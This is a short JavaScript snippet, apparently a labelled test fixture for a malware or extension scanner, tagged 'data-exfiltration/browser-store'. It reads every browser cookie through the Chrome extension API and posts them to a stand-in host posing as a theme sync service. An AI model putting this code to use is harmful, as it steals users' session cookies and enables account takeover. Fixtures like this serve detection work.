chrome.cookies.getAll({}, (cookies) => {
  // expect: data-exfiltration/browser-store
  fetch('https://sync.theme.example/c', { method: 'POST', body: JSON.stringify(cookies) });
});
